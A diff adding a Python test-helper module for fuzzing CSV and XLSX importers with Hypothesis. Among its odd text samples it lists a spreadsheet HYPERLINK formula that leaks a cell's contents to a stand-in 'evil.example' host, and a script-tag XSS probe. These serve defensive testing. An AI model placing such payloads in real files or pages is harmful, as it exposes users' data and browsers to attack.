@@ -1,0 +1,302 @@
+"""Shared by the property-based tests of the importers (``<app>/tests/test_import_fuzz.py``).
+
+Each of those tests generates a table mixing rows built only from legal values with
+hostile rows (one cell made wrong, cells past the last column, a copy of an earlier row),
+writes it as CSV (several encodings, delimiters and line ends) or XLSX, imports it through
+the service or the web page, and checks that nothing raised, that every hostile row is
+reported with its number and a reason, and that every good row is kept.
+
+The settings are small and deterministic for CI. A longer, random campaign:
+
+    HYPOTHESIS_PROFILE=long .venv/bin/pytest commons -k import_fuzz -p no:cacheprovider \\
+        --hypothesis-show-statistics
+
+(``FUZZ_FACTOR`` scales the number of examples of the long campaign, 50 by default.)
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import os
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass, field
+from typing import Any
+
+from hypothesis import HealthCheck, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook
+
+LONG = os.environ.get("HYPOTHESIS_PROFILE") == "long"
+FACTOR = int(os.environ.get("FUZZ_FACTOR", "50"))
+_SUPPRESSED = [
+    HealthCheck.function_scoped_fixture,  # each example rolls its own writes back
+    HealthCheck.too_slow,
+    HealthCheck.data_too_large,
+    HealthCheck.large_base_example,
+]
+
+
+def fuzz(examples: int) -> settings:
+    """Hypothesis settings: ``examples`` derandomised examples for CI, or ``FACTOR``
+    times as many random ones with ``HYPOTHESIS_PROFILE=long``."""
+    if LONG:
+        return settings(
+            max_examples=examples * FACTOR,
+            derandomize=False,
+            deadline=None,
+            database=None,
+            print_blob=True,
+            suppress_health_check=_SUPPRESSED,
+        )
+    return settings(
+        max_examples=examples,
+        derandomize=True,
+        deadline=None,
+        database=None,
+        suppress_health_check=_SUPPRESSED,
+    )
+
+
+# --- Cells --------------------------------------------------------------------------------
+
+
+class Formula(str):
+    """A cell an XLSX file holds as a formula (read back empty: no cached value); a CSV
+    file holds its text."""
+
+
+# Text a spreadsheet might hold that is legal in a free-text cell: formula-like cells,
+# line breaks, a byte-order mark, bidirectional controls, combining marks, emoji, quotes
+# and separators.
+ODD_SNIPPETS = (
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "=1+1",
+    "+66 2 123 4567",
+    "-2",
+    "@SUM(A1:A9)",
+    "line one\nline two",
+    "line one\r\nline two",
+    "\ufeffstarts with a BOM",
+    "\u202eevil right-to-left\u202c",
+    "e\u0301\u0301\u0301 combining",
+    "👩🏽‍⚖️ 🇹🇭",
+    "quote \" and 'single'",
+    "semi; colon, comma\ttab",
+    "<script>alert(1)</script>",
+    "ทดสอบ ภาษาไทย",
+    "မြန်မာ",
+    "ប្រទេសកម្ពុជា",
+    "٣٤٥ عربي",
+    "\u200b\u200d zero width",
+    "Ǆ ß ﬁ İ",
+)
+
+# Characters every cell can hold: no control characters but tab and line ends (XML,
+# hence XLSX, cannot hold the others), no surrogates, no unassigned code points (nor
+# U+FFFE, U+FFFF, which XML refuses).
+_CHARACTERS = st.characters(exclude_categories=("Cs", "Cn", "Cc"), include_characters="\t\n")
+
+
+def odd_text(*, max_size: int = 80) -> st.SearchStrategy[str]:
+    """Free text that must be kept: generated characters and odd snippets, never blank."""
+    return (
+        st.lists(
+            st.one_of(st.text(_CHARACTERS, min_size=1, max_size=20), st.sampled_from(ODD_SNIPPETS)),
+            min_size=1,
+            max_size=4,
+        )
+        .map(" ".join)
+        .map(lambda text: text[:max_size])
+        .filter(lambda text: text.strip())
+    )
+
+
+def cased(values: Iterable[str]) -> st.SearchStrategy[str]:
+    """One of ``values``, as written, in capitals or in lower case."""
+    return st.sampled_from(sorted(values)).flatmap(
+        lambda value: st.sampled_from([value, value.upper(), value.lower()])
+    )
+
+
+def text_of(value: Any) -> str:
+    """The text ``commons.lib.tabular`` reads from a cell holding ``value``."""
+    if value is None or isinstance(value, Formula):
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, float) and value.is_integer():
+        return str(int(value))
+    if isinstance(value, datetime.datetime):
+        return value.date().isoformat() if value.time() == datetime.time() else value.isoformat()
+    if isinstance(value, datetime.date):
+        return value.isoformat()
+    return str(value).strip()
+
+
+def same_text(stored: str, written: str) -> bool:
+    """Whether ``stored`` is the text of a cell that held ``written``: stripped, line ends
+    as XML reads them, and (``collapse``) runs of white space as one space."""
+    return _lines(stored) == _lines(written.strip())
+
+
+def collapsed(text: str) -> str:
+    return " ".join(text.split())
+
+
+def _lines(text: str) -> str:
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+# --- Tables ---------------------------------------------------------------------------------
+
+
+@dataclass
+class Row:
+    """A row to write: its cells by column, and what the import must do with it."""
+
+    cells: dict[str, Any]
+    bad: str = ""  # text the reason for rejecting it must hold; "" for a good row
+    extra: list[Any] = field(default_factory=list)  # cells past the last column
+    skipped: bool = False  # a good row the import skips (already there)
+
+    @property
+    def blank(self) -> bool:
+        return not self.extra and not any(text_of(v) for v in self.cells.values())
+
+
+@dataclass
+class Table:
+    header: list[str]
+    rows: list[Row]
+
+    def numbered(self) -> list[tuple[int, Row]]:
+        return list(enumerate(self.rows, start=2))
+
+    @property
+    def bad(self) -> dict[int, str]:
+        return {n: row.bad for n, row in self.numbered() if row.bad}
+
+    @property
+    def good(self) -> list[tuple[int, Row]]:
+        return [(n, r) for n, r in self.numbered() if not r.bad and not r.blank and not r.skipped]
+
+    def matrix(self, header: list[str] | None = None) -> list[list[Any]]:
+        names = self.header if header is None else header
+        return [[row.cells.get(name, "") for name in names] + row.extra for row in self.rows]
+
+
+# How a table is written: CSV in several encodings, delimiters and line ends, or XLSX.
+LAYOUTS = (
+    "csv",
+    "csv-bom",
+    "csv-utf16",
+    "csv-semicolon-crlf",
+    "csv-tab",
+    "xlsx",
+)
+
+
+def write(table: Table, layout: str) -> bytes:
+    """The table's file in ``layout`` (one of ``LAYOUTS``)."""
+    if layout == "xlsx":
+        return write_xlsx(table.header, table.matrix())
+    options = {
+        "csv": ("utf-8", ",", "\n"),
+        "csv-bom": ("utf-8-sig", ",", "\n"),
+        "csv-utf16": ("utf-16", ",", "\r\n"),
+        "csv-semicolon-crlf": ("utf-8", ";", "\r\n"),
+        "csv-tab": ("utf-8", "\t", "\n"),
+    }
+    encoding, delimiter, newline = options[layout]
+    return write_csv(
+        table.header, table.matrix(), encoding=encoding, delimiter=delimiter, newline=newline
+    )
+
+
+def write_csv(
+    header: list[str],
+    rows: list[list[Any]],
+    *,
+    encoding: str = "utf-8",
+    delimiter: str = ",",
+    newline: str = "\n",
+    errors: str = "strict",
+) -> bytes:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
+    writer.writerow(header)
+    for row in rows:
+        writer.writerow([_csv_cell(value) for value in row])
+    return buffer.getvalue().encode(encoding, errors)
+
+
+def _csv_cell(value: Any) -> str:
+    if isinstance(value, Formula):
+        return str.__str__(value)
+    return text_of(value) if not isinstance(value, str) else value
+
+
+def write_xlsx(header: list[str], rows: list[list[Any]]) -> bytes:
+    book = Workbook()
+    sheet = book.active
+    sheet.append(header)
+    for number, row in enumerate(rows, start=2):
+        for column, value in enumerate(row, start=1):
+            if value is None or value == "":
+                continue
+            cell = sheet.cell(row=number, column=column, value=value)
+            if isinstance(value, str) and value.startswith("="):
+                # Text is text: only a Formula is written as one.
+                cell.data_type = "f" if isinstance(value, Formula) else "s"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+# --- Checks ----------------------------------------------------------------------------------
+
+
+def assert_reported(table: Table, rejected: Iterable[tuple[int, str]]) -> None:
+    """Every hostile row, and only those, is reported with its number and a reason that
+    holds what its ``bad`` says."""
+    reasons = {int(number): reason for number, reason in rejected}
+    assert set(reasons) == set(table.bad), (reasons, table.bad)
+    for number, expected in table.bad.items():
+        assert reasons[number].strip()
+        assert expected.casefold() in reasons[number].casefold(), (number, reasons[number])
+
+
+def hostile_rows(
+    draw: Callable,
+    *,
+    good: Callable[[int], Row],
+    corruptions: dict[str, st.SearchStrategy],
+    columns: list[str],
+    count: int,
+    extra_cells: st.SearchStrategy[list[Any]] | None = None,
+) -> list[Row]:
+    """``count`` rows, each good or hostile: ``good(index)`` draws a good row; a hostile
+    one is a good row with one of ``columns`` given a value of ``corruptions`` (which
+    draws ``(value, reason)``), or with cells past the last column, or blank."""
+    rows: list[Row] = []
+    for index in range(count):
+        row = good(index)
+        kind = draw(st.sampled_from(["good", "good", "corrupt", "extra", "blank"]))
+        usable = [c for c in columns if c in corruptions]
+        if kind == "corrupt" and usable:
+            column = draw(st.sampled_from(usable))
+            value, reason = draw(corruptions[column])
+            row.cells[column] = value
+            row.bad = reason or column
+        elif kind == "extra":
+            row.extra = draw(
+                extra_cells
+                or st.lists(st.sampled_from(["x", "1", "TH", "=1+1"]), min_size=1, max_size=3)
+            )
+            row.bad = "cells"
+        elif kind == "blank":
+            row.cells = dict.fromkeys(row.cells, "")
+        rows.append(row)
+    return rows
